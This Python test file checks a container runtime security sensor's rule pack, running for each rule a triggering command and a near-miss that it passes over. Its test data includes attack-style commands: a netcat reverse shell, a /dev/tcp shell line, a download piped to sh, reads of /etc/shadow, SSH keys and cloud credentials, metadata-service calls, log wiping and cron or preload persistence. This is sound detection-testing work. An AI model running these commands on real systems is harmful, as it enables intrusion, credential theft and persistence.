# SPDX-License-Identifier: Apache-2.0
"""The sensor's own rules (deploy/rules): of each a deed that it finds, once, and one much like it that it passes over."""
import os
import re

import pytest

from conftest import PAUSE, get, once
from deeds import Deed, judged
from programs import ROOT, run

pytestmark = once

RULES = os.path.join(ROOT, "deploy", "rules")
TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"

# What a user's file adds, as deploy/rules/README.md shows it.
INDICATORS = """
- list: taffrail_malicious_addresses
  items: [203.0.113.66, 127.66.66.66]
  override: {{items: append}}
- list: taffrail_malicious_networks
  items: [198.51.100.0/24]
  override: {{items: append}}
- list: taffrail_malicious_digests
  items: ["{digest}"]
  override: {{items: replace}}
- rule: Attack tool
  exceptions:
    - {{name: programs, values: [[example.test/taffrail/busybox, hydra]]}}
  override: {{exceptions: append}}
"""

# rule: what fires it, what must not; each a command, or what Deed takes after the rule.
DEEDS = {
    # --- 10-known-malicious.yaml
    "Crypto miner": ("/d/xmrig -o pool", "/d/xmrig-exporter --port 9100"),
    "Mining pool by port": ("/d/deed call 203.0.113.9 14444", "/d/deed call 10.99.0.1 14444"),
    "Attack tool": ("/d/linpeas.sh -a", "/d/hydra -l root"),  # the second is an exception of INDICATORS
    "Malicious address": ("/d/deed send 203.0.113.66 53", "/d/deed send 203.0.113.67 53"),
    "Malicious network": ("/d/deed call 198.51.100.7 443", "/d/deed call 203.0.113.68 443"),
    "Mining pool by name": ("/d/deed call-by-name pool.supportxmr.com 203.0.113.80 443", "/d/deed call-by-name www.example.com 203.0.113.81 443"),
    "Malicious domain": ("/d/deed call-by-name malicious.invalid 203.0.113.82 443", "/d/deed call-by-name not.malicious.invalid 203.0.113.83 443"),
    "Malicious image": (("/pause", (), "pause"), ("/bin/true", (), "first")),
    # --- 20-escape.yaml
    "Kernel helper path written": ("/d/deed open w /proc/sys/kernel/core_pattern", "/d/deed open r /proc/sys/kernel/core_pattern"),
    "Cgroup release agent written": (("/d/deed open c+ /tmp/cg/release_agent", ("/bin/mkdir /tmp/cg",)), "/d/deed open c+ /tmp/release_agents"),
    "Runtime socket called": ("/d/deed call-unix /tmp/docker.sock", "/d/deed call-unix /tmp/application.sock"),
    "Disk or memory of the node opened": (("/d/deed open r+ /dev/sda", ("/d/deed open c+ /dev/sda",)),
                                          ("/d/deed open r+ /dev/sdtool", ("/d/deed open c+ /dev/sdtool",))),
    "Device or control file system mounted": ("/d/deed mount /dev/sda /mnt ext4", "/d/deed mount none /tmp tmpfs"),
    "Namespace of another process entered": ("/d/deed setns /proc/self/ns/uts", "/d/deed open r /proc/self/ns/uts"),
    "User namespace made": ("/d/deed unshare user", "/d/deed unshare fs"),
    "Kernel module loaded": ("/d/deed module", "/d/deed open r /proc/modules"),
    "BPF program loaded": ("/d/deed bpf load", "/d/deed bpf map"),
    "File opened by its handle": ("/d/deed by-handle /tmp", "/d/deed open d+ /tmp"),
    "Running executable overwritten": ("/d/deed open w /proc/self/exe", "/d/deed open r+ /proc/self/exe"),
    "Root of another process opened": ("/d/deed open r+ /proc/1/root/etc/hostname", "/d/deed open r+ /proc/1/status"),
    "Tool for containers or clusters": ("/d/kubectl get pods", "/d/kubectl-report"),
    "Container with the node's own files": (("/bin/true", (), "node"), ("/bin/true", (), "first")),
    "Privileged container": (("/bin/true", (), "first-privileged"), ("/bin/true", (), "first")),
    # --- 30-credentials.yaml
    "Service account token read by hand": ((f"/bin/cat {TOKEN}", (f"/bin/mkdir -p {os.path.dirname(TOKEN)}", f"/d/deed open c+ {TOKEN}")),
                                           f"/d/deed open r+ {TOKEN}"),
    "Password file read": ("/d/deed open r+ /etc/shadow", "/d/passwd open r+ /etc/shadow"),
    "Private key or cloud credentials read by hand": (("/bin/cat /root/.ssh/id_rsa", ("/bin/mkdir -p /root/.ssh", "/d/deed open c+ /root/.ssh/id_rsa")),
                                                      ("/bin/cat /root/.ssh/known_hosts", ("/d/deed open c+ /root/.ssh/known_hosts",))),
    "Search for secrets": ("/bin/find /srv -name id_rsa", "/bin/find /srv -name index.html"),
    "Environment of another process read": ("/d/deed look-into environ", "/d/deed open r+ /proc/self/environ"),
    "Memory of another process opened": ("/d/deed look-into mem", "/d/deed open r+ /proc/self/mem"),
    "Cloud metadata service called": ("/d/deed call 169.254.169.254 80", "/d/deed call 169.254.169.253 80"),
    "Process traced": ("/d/deed ptrace attach", "/d/deed ptrace me"),
    # --- 40-persistence.yaml
    "Account or right to be root written": ("/d/deed open a+ /etc/passwd", "/d/useradd open a+ /etc/passwd"),
    "Timer or service written": (("/d/deed open c+ /etc/cron.d/job", ("/bin/mkdir -p /etc/cron.d",)), "/d/deed open r+ /etc/cron.d/job"),
    "Start file of a shell written": ("/d/deed open c+ /root/.bashrc", "/d/deed open c+ /root/bashrc.txt"),
    "SSH keys for logins written": (("/d/deed open c+ /root/.ssh/authorized_keys", ("/bin/mkdir -p /root/.ssh",)), "/d/deed open r+ /root/.ssh/authorized_keys"),
    "Library for all programs written": ("/d/deed open c+ /etc/ld.so.preload", "/d/deed open r+ /etc/ld.so.preload"),
    "Setuid bit set": (("/d/deed chmod 4755 /tmp/program", ("/d/deed open c+ /tmp/program",)), "/d/deed chmod 1755 /tmp/program"),
    "Polkit exploited": ("/d/pkexec", "/d/pkexec /bin/true"),
    "Program that changes the user": ("/d/sudo -s", "/d/gosu user"),
    "SSH server": ("/d/sshd -D", "/d/ssh-keygen -A"),
    # --- 50-network.yaml
    "Shell on a network connection": ("/d/deed on-connection /bin/sh -c :", "/d/deed on-connection /d/service"),
    "Standard input became a network connection": ("/d/deed as-descriptor 0", "/d/deed as-descriptor 7"),
    "Command line of a reverse shell": ("/d/nc -e /bin/sh 10.0.0.1 4444", "/d/nc -z 10.0.0.1 4444"),
    "Scanner of networks": ("/d/nmap -sS 10.0.0.0/8", "/d/nmapped"),
    "Many connections refused": ("/d/deed call-many 127.0.0.1 20000 60", "/d/deed call-many 127.0.0.1 20000 40"),
    "Tunnel or proxy": ("/d/chisel client 10.0.0.1", "/d/ssh -p 22 10.0.0.1"),
    "Packet socket opened": ("/d/deed socket packet", "/d/deed socket inet"),
    # --- 60-execution.yaml
    "Program run from memory": ("/d/deed from-memory nothing", "/d/deed by-descriptor /d/deed"),
    "Download run by a shell": ("/bin/sh -c ': | base64 -d | sh'", "/bin/sh -c ': | base64 -d'"),
    "Shell below a server": ("/d/nginx spawn /bin/sh -c :", "/d/application spawn /bin/sh -c :"),
    "Code in arguments below a server": ("/d/php-fpm spawn /d/python3 -c 1", "/d/application spawn /d/python3 -c 1"),
    "Program below a database": ("/d/postgres spawn /d/id", "/d/postgres spawn /d/pg_dump"),
    "Terminal for a shell": (("/bin/sh -c :", (), "terminal"), ("/bin/sh -c :", (), "first")),
    "Terminal made inside the container": ("/d/python3 on-terminal /bin/sh -c :", "/d/sshd on-terminal /bin/sh -c :"),
    "Package manager": ("/d/apt-get install -y curl", "/d/apt-get --version"),
    "Package manager of a language": ("/d/pip install something", "/d/npm start"),
    "Program that was not in the image": (("/tmp/dropped", ("/d/deed copy /d/deed /tmp/dropped",)), "/d/deed"),
    "Program started by the loader": (("/tmp/ld-musl-x86_64.so.1 /tmp/dropped", ("/d/deed copy /d/deed /tmp/ld-musl-x86_64.so.1",)),
                                      ("/tmp/ld-linux.so.2 --verify /bin/true", ("/d/deed copy /d/deed /tmp/ld-linux.so.2",))),
    "Program in a folder for passing files": ("/run/passing/deed", "/d/deed"),
    "Hidden program": ("/d/.hidden", "/d/.local/bin/tool"),
    # --- 70-files.yaml
    "Log emptied or removed": (("/d/deed open t+ /var/log/auth.log", ("/bin/mkdir -p /var/log", "/d/deed open c+ /var/log/auth.log")),
                               "/d/deed open a+ /var/log/auth.log"),
    "Shell history emptied or removed": (("/d/deed unlink /root/.bash_history", ("/d/deed open c+ /root/.bash_history",)),
                                         ("/d/deed open a+ /root/.ash_history", ("/d/deed open c+ /root/.ash_history",))),
    "Data destroyed": ("/d/shred -u /tmp/file", "/d/shredder"),
    "Hidden file in a common folder": ("/d/deed open c+ /tmp/.hidden", "/d/deed open c+ /tmp/.X0-lock"),
    "Folder of programs changed": ("/d/deed open c+ /usr/bin/fresh", "/d/apk open c+ /usr/bin/packaged"),
    "Page of a web server written": ("/d/nginx open c+ /srv/www/shell.php", "/d/nginx open c+ /srv/www/upload.txt"),
    # --- 80-other-names.yaml
    "Sensitive file by another name": (("/d/deed open r+ /tmp/notes", ("/bin/ln -s /etc/shadow /tmp/notes",)),
                                       ("/d/deed open r+ /tmp/names", ("/bin/ln -s /etc/passwd /tmp/names",))),
}

# Other ways to the same findings.
FURTHER = [
    Deed("Shell below a server", "/d/apache2 spawn /bin/sh -c '/bin/sh -c :; :'"),  # the first shell alone
    Deed("Shell below a server", "/d/nginx spawn /d/worker spawn /bin/sh -c :"),
    Deed("Download run by a shell", "/bin/sh -c 'true | wget -q -O - http://127.0.0.1:9/x | /bin/sh'"),
    Deed("Kernel helper path written", "/d/deed open c+ /tmp/host/proc/sys/kernel/core_pattern", ("/bin/mkdir -p /tmp/host/proc/sys/kernel",)),
    Deed("Shell below a server", "/d/nginx spawn /bin/busybox sh -c :"),
    Deed("Shell on a network connection", "/d/deed on-connection /bin/busybox ash -c :"),
    Deed("Shell on a network connection", "/d/deed on-connection /tmp/tidy -c :",
         ("/d/deed copy /d/deed /tmp/bash", "/bin/ln -s /tmp/bash /tmp/tidy")),
    Deed("Download run by a shell", "/bin/busybox sh -c ': | base64 -d | busybox sh'"),
    Deed("Service account token read by hand", f"/tmp/fresh open r+ {TOKEN}", ("/d/deed copy /d/deed /tmp/fresh",)),
    Deed("Private key or cloud credentials read by hand", "/bin/cp /root/.aws/credentials /tmp/c",
         ("/bin/mkdir -p /root/.aws", "/d/deed open c+ /root/.aws/credentials")),
    Deed("Account or right to be root written", "/d/deed rename /tmp/sudoers /etc/sudoers", ("/d/deed open c+ /tmp/sudoers",)),
    Deed("Package manager of a language", "/d/python3 -m pip install something"),
    Deed("Tunnel or proxy", "/d/ssh -N -R 2222:127.0.0.1:22 10.0.0.1"),
    Deed("Privileged container", "/bin/true other", where="pids-of-the-host"),
    Deed("Search for secrets", "/bin/grep -ri password /srv"),
    Deed("Crypto miner", "/d/worker -o stratum+tcp://pool.test:3333"),
    Deed("Log emptied or removed", "/d/deed unlink /var/log/wtmp", ("/bin/mkdir -p /var/log", "/d/deed open c+ /var/log/wtmp")),
    Deed("Shell history emptied or removed", "/d/deed symlink /dev/null /root/.zsh_history"),
    Deed("Hidden file in a common folder", "/d/deed mkdir /tmp/.kept"),
    Deed("Folder of programs changed", "/d/deed rename /tmp/tool /usr/bin/moved", ("/d/deed open c+ /tmp/tool",)),
    Deed("Folder of programs changed", "/d/deed symlink /tmp/tool /usr/bin/linked"),
    Deed("Folder of programs changed", "/d/deed link /tmp/second /usr/bin/second", ("/d/deed open c+ /tmp/second",)),
    Deed("Account or right to be root written", "/d/deed link /tmp/doas /etc/doas.conf", ("/d/deed open c+ /tmp/doas",)),
    Deed("Timer or service written", "/d/deed rename /tmp/job /etc/cron.d/moved", ("/bin/mkdir -p /etc/cron.d", "/d/deed open c+ /tmp/job")),
    Deed("Timer or service written", "/d/deed symlink /tmp/job /etc/cron.d/linked", ("/bin/mkdir -p /etc/cron.d",)),
    Deed("Start file of a shell written", "/d/deed rename /tmp/profile /root/.profile", ("/d/deed open c+ /tmp/profile",)),
    Deed("SSH keys for logins written", "/d/deed rename /tmp/keys /root/.ssh/authorized_keys2", ("/bin/mkdir -p /root/.ssh", "/d/deed open c+ /tmp/keys")),
    Deed("Library for all programs written", "/d/deed link /tmp/preload /srv/etc/ld.so.preload", ("/bin/mkdir -p /srv/etc", "/d/deed open c+ /tmp/preload")),
    Deed("Hidden file in a common folder", "/d/deed rename /tmp/seen /tmp/.unseen", ("/d/deed open c+ /tmp/seen",)),
    Deed("Page of a web server written", "/d/nginx rename /srv/www/upload /srv/www/upload.php",
         ("/bin/mkdir -p /srv/www", "/d/deed open c+ /srv/www/upload")),
    Deed("Command line of a reverse shell", "/bin/sh -c ': >&2; : /dev/tcp/10.0.0.1/4444'"),
    Deed("Sensitive file by another name", "/d/deed open r+ /proc/self/root/etc/shadow"),
    Deed("Sensitive file by another name", "/bin/chroot /etc /deed open r+ /shadow", ("/d/deed copy /d/deed /etc/deed",)),
    Deed("Sensitive file by another name", "/d/deed open a+ /tmp/folder/passwd", ("/bin/ln -s /etc /tmp/folder",)),
    Deed("Sensitive file by another name", "/d/deed link /etc/shadow /tmp/shadow"),
    Deed("Sensitive file by another name", "/d/deed open r+ /dev/fd/../../1/environ"),
    Deed("Malicious address", "/d/deed call-many 127.66.66.66 53 1"),  # it is refused
    Deed("Cloud metadata service called", "/d/deed send ::ffff:169.254.169.254 80"),
    Deed("Download run by a shell", f"/bin/sh -c ': | base64 -d | sh #{'|' * 15000}'"),
    Deed("Sensitive file by another name", "/d/deed open-again w /proc/sys/kernel/core_pattern"),
    Deed("Running executable overwritten", "/d/deed open-again w /proc/self/exe"),
    Deed("Device or control file system mounted", "/d/deed move-mount /srv /mnt"),
    Deed("Runtime socket called", "/d/deed in /srv call-unix docker.sock"),
    Deed("Tool for containers or clusters", "/bin/busybox nsenter -t 1 true"),
    Deed("Setuid bit set", "/d/deed create 4755 /tmp/made-so"),
    Deed("Polkit exploited", "/tmp/innocent", ("/d/deed copy /d/deed /tmp/pkexec", "/bin/ln -s pkexec /tmp/innocent")),
    Deed("Log emptied or removed", "/d/deed empty /var/log/messages", ("/bin/mkdir -p /var/log", "/d/deed open c+ /var/log/messages")),
    Deed("Log emptied or removed", "/d/deed rename /var/log/daemon.log /tmp/daemon.log", ("/bin/mkdir -p /var/log", "/d/deed open c+ /var/log/daemon.log")),
    Deed("Root of another process opened", "/d/deed open-below r /proc/1/root etc/hostname"),
    Deed("Root of another process opened", "/d/deed in /proc/1 open r+ root/etc/hostname"),
    Deed("Root of another process opened", "/d/deed open r+ //proc/1/root/etc/hostname"),
    Deed("Root of another process opened", "/d/deed open r+ /proc/self/fd/0/../status"),
]

# What containers do all day. No rule says a word of it.
ORDINARY = [
    "/bin/sh -c 'echo one > /tmp/work && mv /tmp/work /tmp/done && chmod 755 /tmp/done && rm /tmp/done'",
    "/bin/sh -c 'mkdir -p /tmp/a/b && tar -cf /tmp/a.tar /srv && tar -tf /tmp/a.tar > /dev/null && rm -r /tmp/a /tmp/a.tar'",
    "/bin/sh -c 'cd /srv/www && ls -la && grep -r page . && find . -name index.html | xargs cat | sort | uniq -c'",
    "/bin/sh -c 'for n in 1 2 3; do date > /dev/null; done; sleep 0; env > /dev/null; id; hostname; ps'",
    "/bin/sh -c 'cat /etc/passwd /etc/group /proc/mounts /proc/self/status /proc/1/cmdline > /dev/null'",
    "/bin/sh -c 'mkdir -p /var/log && echo line >> /var/log/service.log && tail -n 1 /var/log/service.log'",
    "/bin/sh -c 'echo aGVsbG8= | base64 -d | sha256sum; dd if=/dev/zero of=/dev/null bs=1k count=1'",
    "/bin/sh -c 'httpd -p 127.0.0.1:8081 -h /srv/www && sleep 0.2; wget -q -O - http://127.0.0.1:8081/index.html; killall httpd'",
    "/bin/sh -c 'for n in 1 2 3; do nc -z 127.0.0.1 8099; done; exit 0'",
    "/bin/sh -c 'trap : TERM; exec 3<> /tmp/pipe; echo x >&3; exec 3>&-; ln -s /srv/www /tmp/pages; cat /tmp/pages/index.html'",
    "/d/nginx spawn /d/nginx open r+ /srv/www/index.html",
    "/d/postgres spawn /d/postgres call 10.99.0.1 5432",
    "/d/java call 10.99.0.1 9092",
    "/d/node call 203.0.113.10 443",
    "/d/python3 open c+ /tmp/module.pyc",
    "/d/prometheus open r+ /proc/1/stat",
    "/d/deed call-unix /tmp/mysql.sock",
]


def deed(rule, given):
    return Deed(rule, *((given,) if isinstance(given, str) else given))


@pytest.fixture(scope="module")
def outcome(runtime, lab, socket_path, tmp_path_factory):
    """All deeds are done; the nonce and the exit code of each, and the findings."""
    user = tmp_path_factory.mktemp("rules") / "user.yaml"
    user.write_text(INDICATORS.format(digest=runtime.image_id(PAUSE)), encoding="ascii")
    wanted = {("fires", rule): deed(rule, fires) for rule, (fires, _) in DEEDS.items()}
    wanted.update({("passes", rule): deed(rule, passes) for rule, (_, passes) in DEEDS.items()})
    wanted.update({further: further for further in FURTHER})
    wanted.update({command: Deed("", command) for command in ORDINARY})
    with judged(wanted.values(), lab, socket_path, runtime, "--rules", RULES, "--rules", str(user)) as (done, findings):
        yield dict(zip(wanted, done)), findings


def test_readme_has_the_rules():
    """Its tables: each rule with its priority and its techniques, in the files' order."""
    said, there = [], []
    with open(os.path.join(RULES, "README.md"), encoding="utf-8") as file:
        said = [tuple(cell.strip() for cell in row.split("|")[1:4]) for row in file if re.match(r"\| [A-Z]", row)]
    for name in sorted(os.listdir(RULES)):
        with open(os.path.join(RULES, name), encoding="utf-8") as file:
            for rule in re.split(r"^- rule: ", file.read(), flags=re.M)[1:] if name.endswith(".yaml") else ():
                tags = re.search(r"^  tags: \[(.*)\]$", rule, re.M)[1].split(", ")
                priority = re.search(r"^  priority: (.*)$", rule, re.M)[1].capitalize()
                there.append((rule.split("\n")[0], priority, ", ".join(tag for tag in tags if re.match("T[0-9]", tag))))
    assert said == there


def test_readme_tunes_as_it_says(tmp_path):
    """Its examples are rules' files, and they load behind the pack."""
    with open(os.path.join(RULES, "README.md"), encoding="utf-8") as file:
        lines = [line[4:] for line in file if line.startswith("    ") and not line.startswith("    taffrail")]
    (tmp_path / "examples.yaml").write_text("".join(lines), encoding="utf-8")
    done = run("taffrail", "rules", "check", RULES, str(tmp_path / "examples.yaml"))
    assert done.returncode == 0 and "0 errors, 0 warnings" in done.stdout and len(lines) > 20, done.stdout + done.stderr


def rules_of_the_pack():
    names = []
    for name in sorted(os.listdir(RULES)):
        if name.endswith(".yaml"):
            with open(os.path.join(RULES, name), encoding="utf-8") as file:
                names += re.findall(r"^- rule: (.*)$", file.read(), re.M)
    return names


@pytest.mark.parametrize("rule", rules_of_the_pack())
def test_deed_is_found_once(outcome, rule):
    done, findings = outcome
    nonce, code = done["fires", rule]
    found = findings.of(nonce, rule)
    others = [document["rule"]["name"] for document in findings.of(nonce)]
    assert len(found) == 1, (code, others)
    document = found[0]
    assert document["event"]["kind"] == "alert" and document["event"]["severity"] in range(8) and document["message"]
    assert document["rule"]["description"] and document["rule"]["ruleset"]
    assert any(tag.startswith("mitre_") for tag in document["tags"]) and get(document, "threat.technique.id")
    assert get(document, "taffrail.rule.priority") and document["orchestrator"]["namespace"] == "shop"
    fields = get(document, "taffrail.rule.output_fields")
    assert document["container"]["name"] != "plain" or fields.get("user.name", "root") == "root"
    assert fields["container.name"] == document["container"]["name"] and "<NA>" not in document["message"].split("container=")[1]


@pytest.mark.parametrize("further", FURTHER, ids=lambda further: further.command[:80])
def test_other_ways_are_found_too(outcome, further):
    done, findings = outcome
    nonce, code = done[further]
    assert len(findings.of(nonce, further.rule)) == 1, (code, [document["rule"]["name"] for document in findings.of(nonce)])


@pytest.mark.parametrize("rule", rules_of_the_pack())
def test_deed_much_like_it_is_passed_over(outcome, rule):
    done, findings = outcome
    nonce, code = done["passes", rule]
    assert code == 0
    assert findings.of(nonce, rule) == []


@pytest.mark.parametrize("command", ORDINARY)
def test_ordinary_work_is_no_finding(outcome, command):
    done, findings = outcome
    nonce, code = done[command]
    assert code == 0
    assert [(document["rule"]["name"], document["message"]) for document in findings.of(nonce)] == []
